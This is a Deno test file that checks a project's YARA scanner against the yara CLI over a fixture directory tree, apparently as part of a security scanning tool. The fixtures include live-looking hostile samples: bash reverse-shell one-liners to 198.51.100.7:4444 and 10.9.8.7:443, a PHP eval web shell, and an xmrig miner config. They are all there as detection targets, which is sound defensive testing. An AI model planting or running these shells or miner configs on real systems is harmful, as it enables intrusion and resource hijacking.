/**
 * The yara scanner finds what the `yara` command-line tool finds: same rules, same tree, the same (rule, file)
 * pairs and the same string occurrences. Needs the CLI (`apt-get install yara`); ignored with a printed
 * reason where it is not installed.
 */
import assert from "node:assert/strict";
import { findYaraCli } from "../../scripts/bench_yara.ts";
import { MAX_STRING_MATCHES, yara } from "../../src/scanners/yara/scanner.ts";
import { makeTree, repoPath, runOne } from "../helpers.ts";
import { needs } from "../host_caps.ts";

const SAMPLE_RULES = repoPath("rules/yara/linux_threats.yar");
const CLI = findYaraCli();

/** Rules beyond the samples: hex at an offset, wide/nocase, private rules, counts, xor, filesize, empty files. */
const EXTRA_RULES = `
rule elf_header : binary { strings: $elf = { 7F 45 4C 46 } condition: $elf at 0 }
rule wide_nocase_token { strings: $w = "Secret" wide nocase $t = "token=" condition: any of them }
private rule has_marker { strings: $m = "MARKER" condition: $m }
rule marker_twice { strings: $m = "MARKER" condition: has_marker and #m >= 2 }
rule xor_config { strings: $k = "hidden-config" xor condition: $k }
rule big_bang { condition: filesize > 1MB and uint8(filesize - 1) == 0x21 }
rule empty_file { condition: filesize == 0 }
rule chained_hex { strings: $h = { 4D 5A [250-400] 50 45 } condition: $h }
`;

function xor(text: string, key: number): Uint8Array {
  return new TextEncoder().encode(text).map((b) => b ^ key);
}

function fixtureTree() {
  const random = new Uint8Array(200_000);
  for (let i = 0; i < random.length; i++) random[i] = (i * 2654435761) >>> 24; // deterministic noise
  const big = new Uint8Array((1 << 20) + 4096).fill(0x2e);
  big.set(new TextEncoder().encode("MARKER MARKER bash -i >& /dev/tcp/10.9.8.7/443 0>&1"), 700_000);
  big[big.length - 1] = 0x21;
  const manyHits = Array.from({ length: 30 }, (_, i) => `MARKER ${i}`).join("\n");
  return makeTree({
    "tree/tmp/.x/update.sh":
      "#!/bin/sh\nwhile :; do bash -i >& /dev/tcp/198.51.100.7/4444 0>&1; sleep 60; done\n",
    "tree/tmp/build.log": "compiling... bash -i is interactive\n",
    "tree/home/alice/.config/xmrig/config.json":
      '{"donate-level": 1, "pools": [{"url": "pool.example.net:3333", "algo": "rx/0"}]}\n',
    "tree/home/alice/notes.json": '{"pools": "swimming", "donate-level": "none"}\n',
    "tree/var/www/html/upload.php": "<?php @eval(base64_decode($_POST['x'])); ?>\n",
    "tree/var/www/html/index.php": "<?php echo htmlspecialchars($_GET['q']); ?>\n",
    "tree/usr/local/bin/fake-elf": {
      content: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...random.subarray(0, 500)]),
    },
    "tree/usr/local/bin/not-elf": {
      content: new Uint8Array([0, 0x7f, 0x45, 0x4c, 0x46, ...random.subarray(0, 500)]),
    },
    "tree/opt/wide.bin": { content: new TextEncoder().encode("xx S\0e\0C\0r\0E\0t\0 and token=abc") },
    "tree/opt/markers.txt": manyHits,
    "tree/opt/one-marker.txt": "MARKER once\n",
    "tree/opt/xored.bin": { content: xor("...hidden-config...", 0x5a) },
    "tree/opt/noise.bin": { content: random },
    "tree/opt/big.bin": { content: big },
    "tree/opt/empty": "",
    "tree/opt/chained.bin": "xxMZ" + ".".repeat(300) + "PEyy",
    "tree/opt/link-to-shell": { symlink: "../tmp/.x/update.sh" },
    "tree/opt/dir with space/file name.txt": "token=1\n",
    "rules/extra.yar": EXTRA_RULES,
  });
}

/** `yara -s` output as "rule path" → the string occurrences ("$id@0xoff"), in the CLI's order. */
function parseCli(text: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  let current: string[] | undefined;
  for (const line of text.split("\n")) {
    if (line === "") continue;
    const s = /^0x([0-9a-f]+):(\$[^:]*):/.exec(line);
    if (s) {
      current?.push(`${s[2]}@0x${s[1]}`);
      continue;
    }
    const sp = line.indexOf(" ");
    current = [];
    out.set(`${line.slice(0, sp)} ${line.slice(sp + 1)}`, current);
  }
  return out;
}

Deno.test(needs(["yaraCli", "libyara"], {
  name:
    "yara: the same matches and string offsets as the yara CLI on a tree with files that do and do not match",
  fn: async () => {
    using t = fixtureTree();
    const tree = `${t.path}/tree`;
    const cli = new Deno.Command(CLI!, {
      args: ["-r", "-N", "-s", "-w", SAMPLE_RULES, `${t.path}/rules/extra.yar`, tree],
      stdout: "piped",
      stderr: "piped",
    }).outputSync();
    assert.equal(cli.code, 0, new TextDecoder().decode(cli.stderr));
    const theirs = parseCli(new TextDecoder().decode(cli.stdout));

    // Both rule files in one directory, as --yara-rules takes them.
    using rules = makeTree({
      "a_linux_threats.yar": Deno.readTextFileSync(SAMPLE_RULES),
      "b_extra.yar": EXTRA_RULES,
    });
    const r = await runOne(yara, "/", { yaraRules: rules.path, yaraRoots: [tree] });
    assert.equal(r.status, "ok", r.reason);
    const ours = new Map(
      r.findings.map((f) => [`${f.metadata.rule} ${f.metadata.path}`, f.metadata.strings as string[]]),
    );
    assert.deepEqual([...ours.keys()].sort(), [...theirs.keys()].sort());
    for (const [key, strings] of theirs) {
      assert.deepEqual(ours.get(key), strings.slice(0, MAX_STRING_MATCHES), key);
    }
    // The tree really has both kinds: every rule but the private one fires somewhere, and files stay quiet.
    const fired = new Set([...theirs.keys()].map((k) => k.split(" ")[0]));
    assert.deepEqual([...fired].sort(), [
      "big_bang",
      "chained_hex",
      "elf_header",
      "empty_file",
      "marker_twice",
      "php_webshell_eval_input",
      "reverse_shell_oneliner",
      "wide_nocase_token",
      "xmrig_miner_config",
      "xor_config",
    ]);
    const quiet = [
      "tmp/build.log",
      "home/alice/notes.json",
      "var/www/html/index.php",
      "usr/local/bin/not-elf",
    ];
    for (const q of quiet) assert.ok(![...ours.keys()].some((k) => k.endsWith(`${tree}/${q}`)), q);
    assert.ok(![...ours.keys()].some((k) => k.includes("link-to-shell")), "neither follows symlinks");
  },
}));
